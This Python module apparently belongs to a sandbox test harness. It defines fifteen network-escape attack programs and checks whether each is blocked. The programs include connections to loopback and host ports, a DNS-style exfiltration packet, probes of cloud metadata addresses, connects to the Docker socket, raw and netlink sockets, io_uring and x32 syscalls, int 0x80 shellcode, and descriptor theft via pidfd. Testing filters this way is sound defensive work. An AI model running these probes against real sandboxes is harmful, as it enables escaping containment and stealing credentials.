"""Attacks that try to reach something outside through a socket, or round the filter that stands before sockets.

What listens on the host and counts what arrives is `host.Listeners`. A line that begins with ESCAPED is for what only
the kernel's answer can tell.
"""

from __future__ import annotations

from dataclasses import replace
from functools import partial

from .beside import beside, seen
from .harness import Attack, Ran, both, unmarked
from .scene import Scene

TCP_LOOPBACK = """
import socket
for host in ('127.0.0.1', 'localhost', '0.0.0.0', '127.1.2.3'):
    try:
        with socket.create_connection((host, F['tcp_port']), 2) as link:
            link.sendall(b'out')
    except OSError as refused:
        print(host, refused)
"""

TCP_HOST_ADDRESS = """
import socket
for host in [*F['addresses'], '::1', '::ffff:127.0.0.1']:
    try:
        with socket.create_connection((host, F['tcp_port']), 1) as link:
            link.sendall(b'out')
    except OSError as refused:
        print(host, refused)
"""

UDP = r"""
import socket
query = bytes.fromhex('abcd01000001000000000000') + b'\x06secret\x07example\x03com\x00' + bytes.fromhex('00010001')
for host in ['127.0.0.1', '::1', *F['addresses']]:
    try:
        with socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, socket.SOCK_DGRAM) as way:
            way.sendto(query, (host, F['udp_port']))
    except OSError as refused:
        print(host, refused)
"""

GETADDRINFO = """
import socket
for name in ('example.com', 'one.one.one.one', 'deb.debian.org'):
    try:
        print('ESCAPED: resolved', name, socket.getaddrinfo(name, 443))
    except OSError as refused:
        print(name, refused)
for path in ('/run/systemd/resolve/io.systemd.Resolve', '/var/run/nscd/socket', '/run/dbus/system_bus_socket'):
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        print('ESCAPED: reached', path)
    except OSError as refused:
        print(path, refused)
"""

METADATA = """
import errno, socket
inside = (errno.ENETUNREACH, errno.EACCES, errno.EPERM, errno.EAFNOSUPPORT)
for host in ('169.254.169.254', 'fd00:ec2::254', '100.100.100.200'):
    try:
        with socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET) as link:
            link.settimeout(2)
            link.connect((host, 80))
        print('ESCAPED: connected to', host)
    except OSError as refused:  # without a number: no answer came, but a packet had gone out
        print('refused' if refused.errno in inside else 'ESCAPED: a packet went out', host, refused)
"""

UNIX_PATH = """
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    for path in (F['unix_path'], '/var/run/docker.sock', '/proc/1/root' + F['unix_path']):
        try:
            way = socket.socket(socket.AF_UNIX, kind)
            way.connect(path)
            print('ESCAPED: connected to', path)
        except OSError as refused:
            print(path, refused)
"""

UNIX_ABSTRACT = r"""
import socket
try:
    socket.socket(socket.AF_UNIX).connect('\0' + F['abstract'])
except OSError as refused:
    print(refused)
"""

# One end of a pair needs no other way out than the path that it sends to.
UNIX_PAIR = r"""
for kind in range(11):
    for path in (F['datagram_path'], '\0' + F['abstract'] + '.datagram'):
        try:
            ours, theirs = socket.socketpair(socket.AF_UNIX, kind)
            ours.sendto(b'out', path)
        except OSError as refused:
            print(kind, path, refused)
"""

# The socket under its own name, and under whatever other name can be given to it or to its folder.
UNIX_IN_WORKSPACE = """
import socket
def reach(path): socket.socket(socket.AF_UNIX).connect(path)
def nothing(): pass
def link(): os.link('deep/counted.sock', 'link.sock')
def symlink(): os.symlink('deep/counted.sock', 'sym.sock')
def folder(): os.rename('deep', 'moved')
def rename(): os.rename('moved/counted.sock', 'moved/other.sock')
for how in (nothing, link, symlink, folder, rename):
    attempt(how)
    for path in ('deep/counted.sock', 'link.sock', 'sym.sock', 'moved/counted.sock', 'moved/other.sock'):
        attempt(reach, path)
"""

FAMILIES = """
import socket
names = {3: 'AX25', 9: 'X25', 15: 'KEY', 17: 'PACKET', 21: 'RDS', 29: 'CAN', 30: 'TIPC', 31: 'BLUETOOTH', 38: 'ALG',
         39: 'NFC', 40: 'VSOCK', 41: 'KCM', 42: 'QIPCRTR', 43: 'SMC', 44: 'XDP', 45: 'MCTP'}
for family, name in names.items():
    for kind in (1, 2, 3, 5):
        try:
            socket.socket(family, kind, 3 if name == 'PACKET' else 0)
            print('ESCAPED:', name, kind)
        except OSError as refused:
            if refused.errno not in (1, 13, 97):  # only the filter may have answered, not the kernel behind it
                print('ESCAPED: the kernel answered', name, kind, refused)
for kind, protocol in ((3, 1), (3, 255)):
    try:
        socket.socket(socket.AF_INET, kind, protocol)
        print('ESCAPED: raw', protocol)
    except OSError as refused:
        print('raw', refused)
for protocol in range(1, 24):
    try:
        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
        print('ESCAPED: netlink', protocol)
    except OSError as refused:
        print('netlink', protocol, refused)
"""

# The host tries to connect to this port for as long as the program runs.
LISTEN = """
import socket, time
for family, host in ((socket.AF_INET, '0.0.0.0'), (socket.AF_INET6, '::')):
    try:
        door = socket.socket(family)
        if family == socket.AF_INET6:
            door.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        door.bind((host, F['inbound_port']))
        door.listen()
        globals()['door' + host] = door
    except OSError as refused:
        print(host, refused)
time.sleep(1.5)
"""

IO_URING = """
room = ctypes.create_string_buffer(512)
for number, arguments in ((425, (8, room)), (426, (0, 1, 0, 0, 0, 0)), (427, (0, 0, 0, 0))):
    ctypes.set_errno(0)
    answer = libc.syscall(ctypes.c_long(number), *arguments)
    if answer >= 0 or ctypes.get_errno() not in (1, 38):
        print('ESCAPED: the kernel answered', number, answer, ctypes.get_errno())
"""

# Machine code: mov eax, NUMBER; mov ebx, FIRST; mov ecx, 1; xor edx, edx; int 0x80; ret - each in a child of its own.
INT_80 = r"""
import mmap, signal
def code(number, first):
    words = [b'\x53\xb8' + number.to_bytes(4, 'little'), b'\xbb' + first.to_bytes(4, 'little')]
    return b''.join(words) + b'\xb9\x01\0\0\0\x31\xd2\xcd\x80\x5b\xc3'
calls = ((359, 2), (102, 1), (20, 0), (26, 0))  # socket, socketcall, getpid, ptrace
for number, first in calls if os.uname().machine == 'x86_64' else ():
    child = os.fork()
    if not child:
        page = mmap.mmap(-1, 4096, prot=7)
        page.write(code(number, first))
        call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        answer = call()
        os._exit(0 if answer == -38 else 7)
    status = os.waitpid(child, 0)[1]
    killed = os.WIFSIGNALED(status) and os.WTERMSIG(status) in (signal.SIGSYS, signal.SIGSEGV)
    if not killed and os.waitstatus_to_exitcode(status) != 0:
        print('ESCAPED: the kernel answered', number, status)
"""

X32 = """
calls = ((41, (16, 3, 15)), (521, (0, 0, 0, 0)), (272, (0x10000000,)), (39, ()))
for number, arguments in calls if os.uname().machine == 'x86_64' else ():
    ctypes.set_errno(0)
    answer = libc.syscall(ctypes.c_long(0x40000000 | number), *arguments)
    if answer >= 0 or ctypes.get_errno() != 38:
        print('ESCAPED: the kernel answered', number, answer, ctypes.get_errno())
"""

# Only the victim is touched, and what the program itself started.
STOLEN_DESCRIPTOR = """
for pid in (F['victim'], os.getpid()):
    try:
        handle = os.pidfd_open(pid)
    except OSError as refused:
        print(pid, refused)
        handle = -1
    for number in range(4):
        ctypes.set_errno(0)
        answer = libc.syscall(ctypes.c_long(438), handle, number, 0)
        if answer >= 0 or ctypes.get_errno() not in (1, 38):
            print('ESCAPED: the kernel answered', pid, answer, ctypes.get_errno())
"""


def _nothing_arrived(scene: Scene, ran: Ran) -> str:
    return "; ".join(f"{kind} was reached" for kind in seen(scene).reached)


_with_socket_in_workspace = partial(beside, socket_in_workspace=True)
_NOTHING = both(_nothing_arrived, unmarked("ESCAPED"))


def _attack(id_: str, program: str, slow: bool = True, bites: bool = True) -> Attack:
    return Attack(id_, program, _NOTHING, slow=slow, bites=bites, host=beside)


ATTACKS = (
    _attack("n01_tcp_loopback", TCP_LOOPBACK, slow=False),
    _attack("n02_tcp_host_address", TCP_HOST_ADDRESS),
    _attack("n03_udp", UDP, slow=False),
    _attack("n04_getaddrinfo", GETADDRINFO, bites=False),
    _attack("n05_metadata", METADATA, bites=False),
    _attack("n06_unix_path", UNIX_PATH, slow=False),
    _attack("n07_unix_abstract", UNIX_ABSTRACT, slow=False),
    _attack("n07_unix_pair", UNIX_PAIR, slow=False),
    replace(_attack("n08_unix_in_workspace", UNIX_IN_WORKSPACE), exposed=True, host=_with_socket_in_workspace),
    _attack("n09_families", FAMILIES),
    _attack("n10_listen", LISTEN),
    _attack("n11_io_uring", IO_URING),
    _attack("n12_int_80", INT_80),
    _attack("n13_x32", X32, bites=False),
    _attack("n14_stolen_descriptor", STOLEN_DESCRIPTOR),
)
